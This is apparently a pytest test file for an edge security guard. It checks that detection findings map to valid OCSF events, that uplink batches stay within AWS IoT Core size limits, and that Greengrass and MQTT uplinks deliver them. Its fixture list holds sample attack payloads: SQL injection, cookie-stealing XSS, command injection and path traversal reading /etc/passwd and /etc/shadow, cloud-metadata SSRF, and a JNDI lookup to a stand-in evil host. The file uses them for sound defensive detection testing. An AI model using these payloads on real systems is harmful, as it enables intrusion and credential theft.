"""OCSF Detection Findings from the uplink: every event the real guard and store produce validates
against the OCSF 1.1.0 schema (class detection_finding with the host and security_control profiles,
JSON Schema generated offline from the schema export that the ocsf-json-schema package ships), one
message stays under AWS IoT Core's 128 KB, and the cursor moves over exactly the records sent.
The MQTT path runs against a real mosquitto."""

import json
import threading
import time

import pytest

from edge_ssre import EventStore, Guard
from edge_ssre.store.record import encode, loss_record
from edge_ssre.store.sink import StoreSink
from edge_ssre.uplink import ocsf
from edge_ssre.uplink.batcher import MAX_MESSAGE_BYTES
from edge_ssre.uplink.greengrass_uplink import GreengrassUplink

jsonschema = pytest.importorskip("jsonschema")
ocsf_json_schema = pytest.importorskip("ocsf_json_schema")

IOT_CORE_MAX = 128 * 1024
ATTACKS = [  # one per family the mapping must carry; payloads built here, not copied
    {"q": "1' OR '1'='1' -- "},
    {"note": "<script>alert(document.cookie)</script>"},
    {"cmd": "; cat /etc/passwd"},
    {"file": "../../../../etc/shadow"},
    {"$where": "this.password.length > 0"},
    {"url": "http://169.254.169.254/latest/meta-data/iam/security-credentials/"},
    {"t": "${jndi:ldap://evil.example/a}"},
    {"token": "password=hunter2 and AKIAABCDEFGHIJKLMNOP in " + "x" * 300 + "' UNION SELECT 1,2--"},
]


@pytest.fixture(scope="module")
def validator():
    schema = ocsf_json_schema.OcsfJsonSchemaEmbedded(ocsf_json_schema.get_ocsf_schema(version=ocsf.OCSF_VERSION))
    cls = schema.get_class_schema(class_name="detection_finding", profiles=list(ocsf.PROFILES))
    validator_cls = jsonschema.validators.validator_for(cls)
    validator_cls.check_schema(cls)
    return validator_cls(cls)


def _stored_findings(store, device="gw-7"):
    guard = Guard(sink=StoreSink(store, device=device))
    for i, attack in enumerate(ATTACKS):
        guard.inspect(json.dumps(attack), source="mqtt", topic="sensors/dev-%d/telemetry" % i, client_id="dev-%d" % i)
    store.flush()


def test_every_event_validates_against_the_ocsf_schema(tmp_path, validator):
    with EventStore(str(tmp_path / "o.ring"), capacity_bytes=1 << 20, durability="none") as store:
        _stored_findings(store)
        store.append(encode(loss_record(12, "overwrite", "gw-7", store.boot)))
        store.append(b"\xff not a record")
        items, msg = ocsf.next_batch(store, 0)
    events = json.loads(msg)
    assert len(events) == len(items) >= len(ATTACKS) + 2
    for ev in events:
        errors = sorted(validator.iter_errors(ev), key=str)
        assert not errors, (ev["finding_info"]["title"], [e.message for e in errors[:3]])
    findings = [e for e in events if e["finding_info"]["analytic"]["uid"].split(".")[0] != "edge_ssre"]
    families = {e["finding_info"]["types"][0] for e in findings}
    assert {"sqli", "xss", "cmdi"} <= families
    for ev in findings:
        assert ev["class_uid"] == 2004 and ev["type_uid"] == 200401 and ev["metadata"]["version"] == "1.1.0"
        assert ev["device"] == {"type_id": 7, "type": "IOT", "name": "gw-7", "uid": "gw-7", "hostname": "gw-7"}
        assert ev["resources"][0]["type"] == "MQTT topic" and ev["resources"][0]["name"].startswith("sensors/dev-")
        assert ev["evidences"][0]["src_endpoint"]["uid"].startswith("dev-")
        assert ev["action_id"] == 2 and ev["disposition"] == "Blocked"  # default policy blocks
        assert 2 <= ev["severity_id"] <= 5
        assert ev["finding_info"]["uid"] == "gw-7:%s:%d" % (ev["unmapped"]["edge_ssre"]["boot"], ev["metadata"]["sequence"])
    text = json.dumps(events)
    assert "hunter2" not in text and "AKIAABCDEFGHIJKLMNOP" not in text  # the record's redaction carries over
    loss = [e for e in events if e["finding_info"]["analytic"]["uid"] == "edge_ssre.store.loss"]
    assert loss and "12 security events lost" in loss[0]["message"]


def test_alert_maps_to_allowed_and_detected(tmp_path, validator):
    with EventStore(str(tmp_path / "a.ring"), capacity_bytes=1 << 20, durability="none") as store:
        guard = Guard(policy={"mode": "alert-only"}, sink=StoreSink(store, device="gw-1"))
        guard.inspect(json.dumps({"q": "1' OR '1'='1' -- "}), source="mqtt", topic="a/b")
        store.flush()
        _, msg = ocsf.next_batch(store, 0)
    ev = json.loads(msg)[0]
    assert (ev["action_id"], ev["disposition_id"], ev["disposition"]) == (1, 15, "Detected")
    assert not list(validator.iter_errors(ev))


def test_a_batch_stays_under_iot_cores_limit_and_the_cursor_covers_only_what_was_sent(tmp_path, validator):
    big = {"v": 1, "type": "finding", "device": "d" * 128, "boot": "b" * 16, "ts": 1.5, "rule": "sqli.grammar",
           "family": "sqli", "action": "block", "severity": "critical", "source": "mqtt", "topic": "t/" * 128,
           "path": "p." * 2000, "excerpt": "\U0001F600" + "\"<'" * 40, "client": "c" * 128, "count": 3}
    with EventStore(str(tmp_path / "b.ring"), capacity_bytes=8 << 20, durability="none") as store:
        seqs = [store.append(encode(dict(big, i=i))) for i in range(600)]
        sent, batches, after = [], 0, 0
        while True:
            items, msg = ocsf.next_batch(store, after)
            if not items:
                break
            assert len(msg) <= MAX_MESSAGE_BYTES < IOT_CORE_MAX
            events = json.loads(msg)
            assert [e["metadata"]["sequence"] for e in events] == [s for s, _ in items]
            assert not list(validator.iter_errors(events[0]))
            sent.extend(s for s, _ in items)
            after = items[-1][0]
            batches += 1
    assert sent == seqs and batches > 1


def test_a_batch_holds_at_most_500_events_for_an_iot_rules_firehose_batch(tmp_path):
    with EventStore(str(tmp_path / "s.ring"), capacity_bytes=1 << 20, durability="none") as store:
        for i in range(700):
            store.append(encode({"v": 1, "type": "finding", "device": "g", "boot": "b", "ts": 1.0, "rule": "r",
                                 "family": "f", "action": "alert", "severity": "low"}))
        items, msg = ocsf.next_batch(store, 0)
        assert 100 <= len(items) == len(json.loads(msg)) < 500 and len(msg) <= MAX_MESSAGE_BYTES
        items, msg = ocsf.next_batch(store, 0, max_bytes=4 << 20)  # a larger budget still stops at 500
    assert len(items) == len(json.loads(msg)) == ocsf.MAX_EVENTS == 500


class FakeIPC:
    """awsiotsdk GreengrassCoreIPCClientV2.publish_to_iot_core's signature (no nucleus runs here)."""

    def __init__(self):
        self.published = []

    def publish_to_iot_core(self, *, topic_name, qos, payload):
        self.published.append((topic_name, payload))


def test_greengrass_uplink_sends_ocsf_and_switches_format(tmp_path):
    with EventStore(str(tmp_path / "g.ring"), capacity_bytes=1 << 20, durability="none") as store:
        _stored_findings(store)
        ipc = FakeIPC()
        up = GreengrassUplink(store, "edge-ssre/gw-7/events", client=ipc, format="ocsf")
        n = up.drain_once()
        assert n == len(json.loads(ipc.published[0][1])) and store.committed_seq > 0
        up.set_format("cbor")
        Guard(sink=StoreSink(store, device="gw-7")).inspect("; cat /etc/passwd", source="mqtt", topic="x")
        store.flush()
        assert up.drain_once() >= 1 and ipc.published[-1][1][:1] != b"["
        with pytest.raises(ValueError, match="ocsf"):
            up.set_format("xml")


def test_mqtt_uplink_sends_ocsf_to_a_real_broker(tmp_path, broker, topic_prefix):
    paho = pytest.importorskip("paho.mqtt.client")
    from edge_ssre.uplink.mqtt_uplink import MqttUplink
    topic = topic_prefix + "/gw-7/events"
    got, lock = [], threading.Lock()
    c = paho.Client(callback_api_version=paho.CallbackAPIVersion.VERSION2, client_id=topic_prefix + "-c")
    c.on_connect = lambda cl, u, f, rc, p=None: cl.subscribe(topic, qos=1)
    c.on_message = lambda cl, u, m: (lock.acquire(), got.extend(json.loads(m.payload)), lock.release())
    c.connect(broker.host, broker.port)
    c.loop_start()
    time.sleep(0.2)
    with EventStore(str(tmp_path / "m.ring"), capacity_bytes=1 << 20, durability="none") as store:
        _stored_findings(store)
        total = store.stats()["backlog"]
        up = MqttUplink(store, broker.host, broker.port, topic=topic, client_id=topic_prefix + "-u", format="ocsf")
        up.start()
        try:
            assert up.drain(10)
        finally:
            up.stop()
    end = time.monotonic() + 5
    while time.monotonic() < end and len(got) < total:
        time.sleep(0.02)
    c.loop_stop()
    c.disconnect()
    assert len({e["finding_info"]["uid"] for e in got}) == total
    assert all(e["class_uid"] == 2004 for e in got)
